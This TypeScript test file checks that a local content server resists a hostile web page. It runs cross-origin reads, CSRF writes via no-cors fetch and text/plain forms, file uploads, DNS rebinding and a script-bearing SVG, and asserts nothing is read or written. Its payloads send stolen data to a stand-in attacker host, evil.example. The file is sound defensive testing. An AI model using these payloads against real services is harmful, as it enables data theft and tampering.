/**
 * A page on a foreign origin attacks the local Content Lake in Debian's Chromium, the way any page
 * HR opens while `npm start` runs could: it tries to read postings, to write documents and to
 * upload files (CORS fetch, no-cors text/plain fetch, a form with enctype text/plain, a multipart
 * upload), from `http://evil.example` and `http://127.0.0.1.evil.example` (mapped to this machine
 * with --host-resolver-rules), and from a DNS-rebinding page whose own name points at the lake.
 * An SVG with a script, uploaded by an editor, is opened from the lake. Nothing is read, nothing
 * is written. Each attack reports to the attacker's own server, and controls prove the page's
 * script ran and its channel home worked.
 */
import {writeFile} from 'node:fs/promises'
import {createServer, type IncomingMessage, type Server} from 'node:http'
import type {AddressInfo} from 'node:net'
import {join} from 'node:path'

import {type Browser, chromium} from 'playwright-core'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'

import {startContentLake, type RunningContentLake} from '../../lib/content-lake/server'
import {clientFor, temporaryDirectory} from '../content-lake/helpers'
import {CHROMIUM_ARGS, CHROMIUM_EXECUTABLE} from '../support/chromium'

const SECRET_TITLE = 'Confidential: Head of Unannounced Region'
const SEED = [
  {_id: 'team-sales', _type: 'team', name: 'Sales'},
  {_id: 'drafts.posting-secret', _type: 'posting', title: SECRET_TITLE},
]
const TIMEOUT = 60_000

/** What the attacking page runs: every attempt, then one report home (as `window.attack`). */
function attackScript(
  lake: string,
  report: string,
  start: 'on load' | 'when called' = 'on load',
): string {
  return `
window.attack = (async () => {
  const lake = ${JSON.stringify(lake)}
  const results = {}
  const attempt = async (name, run) => {
    try { results[name] = await run() } catch (error) { results[name] = 'failed: ' + error }
  }
  const mutation = (id) => JSON.stringify({mutations: [{create: {_id: id, _type: 'team', name: 'Planted'}}]})
  await attempt('ownOrigin', async () => (await fetch('/own-data')).text())
  await attempt('corsRead', async () =>
    (await fetch(lake + '/v2025-02-19/data/query/production?query=*&perspective=raw', {credentials: 'include'})).text())
  await attempt('corsWrite', async () =>
    (await fetch(lake + '/v2025-02-19/data/mutate/production', {method: 'POST', credentials: 'include',
      headers: {'content-type': 'application/json'}, body: mutation('planted-by-cors')})).status)
  await attempt('noCorsTextPlain', async () =>
    (await fetch(lake + '/v2025-02-19/data/mutate/production', {method: 'POST', mode: 'no-cors',
      headers: {'content-type': 'text/plain'}, body: mutation('planted-by-no-cors')})).type)
  await attempt('noCorsUpload', async () =>
    (await fetch(lake + '/v2025-02-19/assets/images/production', {method: 'POST', mode: 'no-cors',
      body: new Blob(['<svg xmlns="http://www.w3.org/2000/svg" width="3" height="3"/>'])})).type)
  await attempt('noCorsSettings', async () =>
    (await fetch(lake + '/v2025-02-19/users/me/keyvalue', {method: 'PUT', mode: 'no-cors',
      headers: {'content-type': 'text/plain'}, body: JSON.stringify([{key: 'planted', value: 1}])})).type)
  const submit = (form) => new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.name = 'sink-' + Math.random().toString(36).slice(2)
    frame.addEventListener('load', () => resolve('submitted'), {once: true})
    document.body.append(frame)
    form.target = frame.name
    document.body.append(form)
    form.submit()
  })
  await attempt('formTextPlain', async () => {
    const form = document.createElement('form')
    form.method = 'POST'
    form.enctype = 'text/plain'
    form.action = lake + '/v2025-02-19/data/mutate/production'
    const input = document.createElement('input')
    input.name = '{"mutations":[{"create":{"_id":"planted-by-form","_type":"team","x":"'
    input.value = '"}}]}'
    form.append(input)
    return submit(form)
  })
  await attempt('formUpload', async () => {
    const form = document.createElement('form')
    form.method = 'POST'
    form.enctype = 'multipart/form-data'
    form.action = lake + '/v2025-02-19/assets/files/production'
    const input = document.createElement('input')
    input.type = 'file'
    input.name = 'file'
    const files = new DataTransfer()
    files.items.add(new File(['<svg xmlns="http://www.w3.org/2000/svg"/>'], 'x.svg', {type: 'image/svg+xml'}))
    input.files = files.files
    form.append(input)
    return submit(form)
  })
  await fetch(${JSON.stringify(report)}, {method: 'POST', mode: 'no-cors', body: JSON.stringify(results)})
})
${start === 'on load' ? 'window.attack()' : ''}`
}

const page = (script: string) =>
  `<!doctype html><html><body><h1>Free cookies</h1><script>${script}</script></body></html>`

/** A script that, run from an SVG, reads what its origin serves and sends it home. */
function svgPayload(report: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>
fetch('/v2025-02-19/data/query/production?query=*&amp;perspective=raw').then((r) => r.text()).catch((e) => 'failed: ' + e)
  .then((text) => fetch(${JSON.stringify(report)}, {method: 'POST', mode: 'no-cors', body: location.origin + ' ' + text}))
</script></svg>`
}

/** The attacker's own web server: its pages, and the reports they send home. */
class AttackerSite {
  readonly reports = new Map<string, string[]>()
  private readonly waiting: {name: string; resolve: (body: string) => void}[] = []
  private server: Server | undefined
  port = 0

  constructor(private readonly pages: (path: string) => {type: string; body: string} | undefined) {}

  async start(): Promise<void> {
    this.server = createServer((request: IncomingMessage, response) => {
      const url = new URL(request.url ?? '/', 'http://attacker')
      if (request.method === 'POST' && url.pathname.startsWith('/report/')) {
        let body = ''
        request.on('data', (chunk: Buffer) => (body += String(chunk)))
        request.on('end', () => {
          const name = url.pathname.slice('/report/'.length)
          this.reports.set(name, [...(this.reports.get(name) ?? []), body])
          for (const waiter of this.waiting.filter((entry) => entry.name === name))
            waiter.resolve(body)
          response.writeHead(204).end()
        })
        return
      }
      if (url.pathname === '/own-data')
        return void response.end('the attacker can read its own origin')
      const served = this.pages(url.pathname + url.search)
      if (!served) return void response.writeHead(404).end()
      response.writeHead(200, {'Content-Type': served.type}).end(served.body)
    })
    await new Promise<void>((resolve) => this.server?.listen(0, '127.0.0.1', resolve))
    this.port = (this.server?.address() as AddressInfo).port
  }

  /** Resolves with the first report of that name (the page's script got to the end). */
  report(name: string): Promise<string> {
    const existing = this.reports.get(name)?.[0]
    if (existing !== undefined) return Promise.resolve(existing)
    return new Promise((resolve) => this.waiting.push({name, resolve}))
  }

  async stop(): Promise<void> {
    this.server?.closeAllConnections()
    await new Promise<void>((resolve) => this.server?.close(() => resolve()))
  }
}

let directory: Awaited<ReturnType<typeof temporaryDirectory>>
let lake: RunningContentLake
let lakePort: string
let attacker: AttackerSite
let browser: Browser
let svgUrl: string

const reportUrl = (name: string) => `http://evil.example:${attacker.port}/report/${name}`

beforeAll(async () => {
  directory = await temporaryDirectory()
  const datasetFile = join(directory.path, 'production.ndjson')
  await writeFile(datasetFile, SEED.map((document) => `${JSON.stringify(document)}\n`).join(''))
  lake = await startContentLake({
    datasetFile,
    projectId: 'local',
    dataset: 'production',
    port: 0,
    studioOrigins: ['http://localhost:3333'],
  })
  lakePort = new URL(lake.url).port
  attacker = new AttackerSite((path) => {
    const [route, query] = path.split('?')
    const lakeUrl = new URLSearchParams(query).get('lake') ?? ''
    if (route === '/attack.html')
      return {
        type: 'text/html',
        body: page(
          attackScript(lakeUrl, reportUrl(new URLSearchParams(query).get('name') ?? 'attack')),
        ),
      }
    if (route === '/control.svg')
      return {type: 'image/svg+xml', body: svgPayload(reportUrl('svg-control'))}
    return undefined
  })
  await attacker.start()
  // An editor uploads an SVG someone sent them; its script would read the lake and report home.
  const svg = await clientFor(lake.url).assets.upload(
    'image',
    Buffer.from(svgPayload(reportUrl('svg-from-lake'))),
    {
      filename: 'logo.svg',
      contentType: 'image/svg+xml',
    },
  )
  svgUrl = svg.url
  browser = await chromium.launch({
    executablePath: CHROMIUM_EXECUTABLE,
    args: [
      ...CHROMIUM_ARGS,
      '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP *.evil.example 127.0.0.1',
    ],
  })
}, 120_000)

afterAll(async () => {
  await browser?.close()
  await attacker?.stop()
  await lake?.close()
  await directory?.remove()
})

function nothingWritten() {
  const ids = [...lake.store.all()].map(({_id}) => _id)
  expect(ids.filter((id) => id.startsWith('planted'))).toEqual([])
  // The one asset is the editor's SVG.
  expect(ids.filter((id) => id.startsWith('image-') || id.startsWith('file-'))).toHaveLength(1)
  expect(ids).toHaveLength(SEED.length + 1)
}

describe('a page on a foreign origin', () => {
  it.each([
    ['http://evil.example', 'localhost'],
    ['http://evil.example', '127.0.0.1'],
    ['http://127.0.0.1.evil.example', 'localhost'],
  ])(
    '%s attacking %s: nothing read, nothing written',
    async (attackerOrigin, lakeHost) => {
      const name = `attack-${attackerOrigin.replace(/\W/g, '')}-${lakeHost.replace(/\W/g, '')}`
      const context = await browser.newContext()
      try {
        const tab = await context.newPage()
        const target = `http://${lakeHost}:${lakePort}`
        await tab.goto(
          `${attackerOrigin}:${attacker.port}/attack.html?lake=${encodeURIComponent(target)}&name=${name}`,
        )
        const results = JSON.parse(await attacker.report(name)) as Record<string, unknown>
        // The control: the page's script ran and reads its own origin.
        expect(results.ownOrigin).toBe('the attacker can read its own origin')
        expect(results.corsRead).toMatch(/^failed: TypeError/)
        expect(results.corsWrite).toMatch(/^failed: TypeError/)
        expect(JSON.stringify(results)).not.toContain(SECRET_TITLE)
        expect(JSON.stringify(results)).not.toContain('Sales')
        nothingWritten()
      } finally {
        await context.close()
      }
    },
    TIMEOUT,
  )

  it(
    'served under a rebinding name that now resolves to the lake: nothing read, nothing written',
    async () => {
      // DNS rebinding, in time: the page is served by the attacker's server under its name and a
      // port; then that server goes away and the name and port lead to a local Content Lake, so
      // everything the page asks its own origin for goes to the lake with "Host: evil.example".
      // (Served from this machine, the page is in the same address space as the lake: Chromium's
      // own Local Network Access checks, which other browsers lack, stay out of the way.)
      const first = createServer((_request, response) => {
        response.writeHead(200, {'Content-Type': 'text/html'})
        response.end(page(attackScript('', reportUrl('rebind'), 'when called')))
      })
      await new Promise<void>((resolve) => first.listen(0, '127.0.0.1', resolve))
      const port = (first.address() as AddressInfo).port
      const context = await browser.newContext()
      const rebound = await temporaryDirectory()
      let target: RunningContentLake | undefined
      try {
        const tab = await context.newPage()
        await tab.goto(`http://evil.example:${port}/rebind.html`)
        first.closeAllConnections()
        await new Promise<void>((resolve) => first.close(() => resolve()))
        const datasetFile = join(rebound.path, 'production.ndjson')
        await writeFile(
          datasetFile,
          SEED.map((document) => `${JSON.stringify(document)}\n`).join(''),
        )
        target = await startContentLake({
          datasetFile,
          projectId: 'local',
          dataset: 'production',
          port,
        })
        await tab.evaluate('window.attack()')
        const results = JSON.parse(await attacker.report('rebind')) as Record<string, unknown>
        // Same origin to the browser, so the requests reach the lake: it refuses them all.
        expect(results.ownOrigin).toContain('forbiddenError')
        expect(results.corsRead).toContain('forbiddenError')
        expect(results.corsWrite).toBe(403)
        expect(JSON.stringify(results)).not.toContain(SECRET_TITLE)
        const ids = [...target.store.all()].map(({_id}) => _id)
        expect(ids.sort()).toEqual(SEED.map(({_id}) => _id).sort())
      } finally {
        await context.close()
        await target?.close()
        await rebound.remove()
      }
    },
    TIMEOUT,
  )
})

describe('an uploaded SVG with a script', () => {
  it(
    'is a download from the lake, runs nowhere, and reads nothing',
    async () => {
      const context = await browser.newContext({acceptDownloads: true})
      try {
        const tab = await context.newPage()
        // Opened directly: a download, not a document on the lake's origin.
        const download = tab.waitForEvent('download')
        await tab.goto(svgUrl).catch(() => undefined)
        expect((await download).suggestedFilename()).toMatch(/\.svg$/)
        // Embedded by a foreign page beside the attacker's own copy, whose script does run.
        const embedding = await context.newPage()
        await embedding.goto(
          `http://evil.example:${attacker.port}/attack.html?lake=none&name=unused`,
        )
        await embedding.evaluate(
          (sources: string[]) => {
            for (const source of sources) {
              const frame = document.createElement('iframe')
              frame.src = source
              document.body.append(frame)
            }
          },
          [svgUrl, `http://evil.example:${attacker.port}/control.svg`],
        )
        expect(await attacker.report('svg-control')).toContain(
          `http://evil.example:${attacker.port}`,
        )
        expect(attacker.reports.get('svg-from-lake')).toBeUndefined()
      } finally {
        await context.close()
      }
    },
    TIMEOUT,
  )
})
